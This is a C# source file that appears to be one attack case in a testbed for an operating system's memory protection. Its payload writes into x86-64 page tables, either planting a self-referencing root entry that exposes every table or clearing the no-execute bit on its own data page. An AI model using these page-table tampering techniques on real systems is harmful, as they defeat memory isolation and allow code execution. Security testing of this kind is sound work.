using System;
using System.Runtime;
using System.Runtime.CompilerServices;
using Testbed.Application;

namespace Testbed.Attacks.D15;

/// <summary>
/// Stores into the page tables, where CR3 says that they are (frames below the image lie at their own address). <c>level=root</c>:
/// the first table gets an entry that leads to itself, a window to all tables. <c>level=leaf</c>: walks down to the page of its own
/// data and makes that executable.
/// </summary>
static class Payload
{
    // SDM vol. 3A, "4-Level Paging".
    const ulong PresentWritableUser = 0x67;             // and accessed and dirty, so that the processor need not set them
    const ulong FrameMask = 0x000F_FFFF_FFFF_F000;
    const int FreeEntry = 256;                          // the lowest of the upper half; the image has the last
    const int IndexBits = 9, PageBits = 12;

    /// <summary>Bit of an entry: its page is not executable.</summary>
    public const ulong NoExecute = 1UL << 63;

    /// <summary>Tables on the way to a page; the last one is level 0.</summary>
    public const int Levels = 4;

    public static void Run(ulong attempt)
    {
        nuint root = PageTableRoot();
        if (!Attempt.TryBegin(attempt))
            return;
        if (CommandLine.Value("level"u8).SequenceEqual("root"u8))
            Raw.Store(root + FreeEntry * sizeof(ulong), root | PresentWritableUser);
        else
            MakeExecutable(root, Own.Kept());
        Attempt.End();
    }

    static void MakeExecutable(nuint table, nuint address)
    {
        for (int level = Levels - 1; level > 0; level--)
            table = Next(Entry(table, level, address));
        nuint entry = Entry(table, 0, address);
        Raw.Store(entry, Raw.Load(entry) & ~NoExecute);
    }

    /// <summary>Address of the entry for an address in a table.</summary>
    public static nuint Entry(nuint table, int level, nuint address)
        => table + (address >> (PageBits + level * IndexBits) & ((1 << IndexBits) - 1)) * sizeof(ulong);

    /// <summary>Address of the table that an entry leads to.</summary>
    public static nuint Next(nuint entry) => (nuint)(Raw.Load(entry) & FrameMask);

    /// <summary>Address of the first table.</summary>
    [RuntimeImport("*", "page_table_root"), MethodImpl(MethodImplOptions.InternalCall)]
    public static extern nuint PageTableRoot();
}
